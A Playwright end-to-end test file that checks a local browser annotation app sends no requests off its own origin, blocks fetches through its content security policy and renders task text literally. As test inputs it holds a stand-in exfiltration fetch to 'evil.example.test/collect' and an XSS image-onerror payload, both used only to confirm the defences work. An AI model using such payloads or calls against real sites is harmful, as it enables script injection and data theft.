import { expect, test, type Request } from '@playwright/test';
import { HAS_SHARED, SKIP_REASON, configFile, imageFiles, modelFile } from './app/fixtures';

// Nothing leaves the machine during a run of local files: every request of
// the page, its workers and its service worker goes to the app's own origin
// (or is a blob:/data: URL). And task content is never injected as HTML.

const MODEL_TIMEOUT = 60_000;

if (!HAS_SHARED) console.warn(`e2e/network.spec.ts: ${SKIP_REASON}`);

test.describe('network and injection', () => {
  test.skip(!HAS_SHARED, SKIP_REASON);

  test('a full run of dropped files requests nothing but the app itself', async ({
    page,
    context,
    baseURL,
  }) => {
    const own = new URL(baseURL!).origin;
    const requests: { url: string; from: string }[] = [];
    const record = (from: string) => (request: Request) =>
      requests.push({ url: request.url(), from });
    // Context-wide: the page, its dedicated workers (the engine, ONNX Runtime's
    // threads) and service workers.
    context.on('request', record('context'));
    page.on('request', record('page'));
    page.on('worker', (worker) => requests.push({ url: worker.url(), from: 'worker script' }));

    await page.goto('/');
    await page
      .getByTestId('file-input')
      .setInputFiles([configFile(), ...imageFiles(), modelFile()]);
    await expect(page.getByTestId('task-count')).toHaveAttribute('data-count', '3');
    await expect(page.getByTestId('model-status')).toBeVisible({ timeout: MODEL_TIMEOUT });
    await page.getByTestId('run-button').click();
    await expect(page.getByTestId('progress-text')).toHaveText('3/3', { timeout: 90_000 });
    const downloading = page.waitForEvent('download');
    await page.getByTestId('export-tasks-with-predictions').click();
    await downloading;
    // Step the preview (loads images from blob: URLs).
    await page.getByTestId('preview-next').click();

    const urls = requests.map((r) => r.url);
    // The recorder sees the worker's own fetches: ONNX Runtime's WebAssembly is fetched there.
    expect(urls.some((u) => u.endsWith('.wasm'))).toBe(true);
    // Images are decoded in the engine's own prep worker, beside session.run.
    expect(urls.some((u) => /\/prep-worker-[\w-]+\.js$/.test(u))).toBe(true);
    const elsewhere = requests.filter(({ url }) => {
      if (url.startsWith('blob:') || url.startsWith('data:')) return false;
      return new URL(url).origin !== own;
    });
    expect(elsewhere).toEqual([]);
  });

  test('control: the same recorder does see a task image the worker fetches from another host', async ({
    page,
    context,
  }) => {
    const seen: string[] = [];
    context.on('request', (request) => seen.push(request.url()));
    await context.route('https://img.example.test/**', (route) =>
      route.fulfill({
        body: imageFiles()[0]!.buffer,
        headers: { 'content-type': 'image/png', 'access-control-allow-origin': '*' },
      }),
    );
    await page.goto('/');
    await page.getByTestId('file-input').setInputFiles([
      configFile(),
      {
        name: 'urls.txt',
        mimeType: 'text/plain',
        buffer: Buffer.from('https://img.example.test/p0.png'),
      },
      modelFile(),
    ]);
    await expect(page.getByTestId('model-status')).toBeVisible({ timeout: MODEL_TIMEOUT });
    await page.getByTestId('run-button').click();
    await expect(page.getByTestId('progress-text')).toHaveText('1/1', { timeout: 90_000 });
    await expect(page.getByTestId('failed-count')).toHaveText('0 failed');
    expect(seen).toContain('https://img.example.test/p0.png');
  });

  test('the page policy refuses fetches to hosts it does not allow', async ({ page, context }) => {
    let reached = false;
    await context.route('http://evil.example.test/**', async (route) => {
      reached = true;
      await route.fulfill({ body: 'x', headers: { 'access-control-allow-origin': '*' } });
    });
    await page.goto('/');
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        violations.push(e.violatedDirective),
      );
      let fetched = true;
      try {
        await fetch('http://evil.example.test/collect');
      } catch {
        fetched = false;
      }
      await new Promise((r) => setTimeout(r, 50));
      return { fetched, violations };
    });
    expect(result.fetched).toBe(false);
    expect(result.violations).toContain('connect-src');
    expect(reached).toBe(false);
    // Inline scripts do not run.
    const inline = await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inline = 1';
      document.body.append(s);
      return (window as unknown as { __inline?: number }).__inline;
    });
    expect(inline).toBeUndefined();
  });

  test('task text that looks like HTML is shown as text, never run', async ({ page }) => {
    const payload = '<img src=x onerror=window.__xss=1>';
    const lines = [
      JSON.stringify({ image: payload }),
      JSON.stringify({ image: `${payload}.png`, note: payload }),
      `{"image": ${payload}`,
    ];
    await page.goto('/');
    await page
      .getByTestId('file-input')
      .setInputFiles([
        configFile(),
        { name: 'tasks.jsonl', mimeType: 'text/plain', buffer: Buffer.from(lines.join('\n')) },
        modelFile(),
      ]);
    await expect(page.getByTestId('task-count')).toHaveAttribute('data-count', '2');
    await expect(page.getByTestId('import-issues')).toContainText('tasks.jsonl, line 3');
    await expect(page.getByTestId('model-status')).toBeVisible({ timeout: MODEL_TIMEOUT });
    await page.getByTestId('run-button').click();
    await expect(page.getByTestId('progress-text')).toHaveText('2/2', { timeout: 90_000 });
    await expect(page.getByTestId('failed-count')).toHaveText('2 failed');
    // The names are shown literally…
    await expect(page.getByTestId('failure-list')).toContainText(payload);
    await expect(page.getByTestId('preview-name')).toContainText('<img');
    // …and no element was made from them.
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(
      await page.evaluate(() => (window as unknown as { __xss?: number }).__xss),
    ).toBeUndefined();
  });

  test('text task content that looks like HTML is shown as text, never run', async ({ page }) => {
    const payload = '<img src=x onerror=window.__xss=1>';
    const text = `${payload} Barack Obama met <b>Angela Merkel</b> in Paris.`;
    const config = `<View><Text name="text" value="$text"/>
      <Labels name="ner" toName="text"><Label value="Person"/><Label value="Place"/></Labels></View>`;
    await page.goto('/');
    await page.getByTestId('file-input').setInputFiles([
      { name: 'ner.xml', mimeType: 'application/xml', buffer: Buffer.from(config) },
      {
        name: 'tasks.json',
        mimeType: 'application/json',
        buffer: Buffer.from(JSON.stringify([{ text }, { text: payload }])),
      },
    ]);
    await expect(page.getByTestId('task-count')).toHaveAttribute('data-count', '2');
    // The built-in tagger loads by itself for <Labels> on <Text>.
    await expect(page.getByTestId('model-status')).toContainText('builtin-entities');
    await page.getByTestId('run-button').click();
    await expect(page.getByTestId('progress-text')).toHaveText('2/2', { timeout: 60_000 });
    // The text, its spans and the task's name are shown literally…
    await expect(page.getByTestId('preview-text')).toHaveText(text);
    await expect(page.getByTestId('preview-span')).toContainText(['Barack Obama']);
    await expect(page.getByTestId('preview-name')).toContainText('<img src=x');
    // …and no element was made from them.
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(await page.getByTestId('preview-text').locator('b').count()).toBe(0);
    expect(
      await page.evaluate(() => (window as unknown as { __xss?: number }).__xss),
    ).toBeUndefined();
  });
});
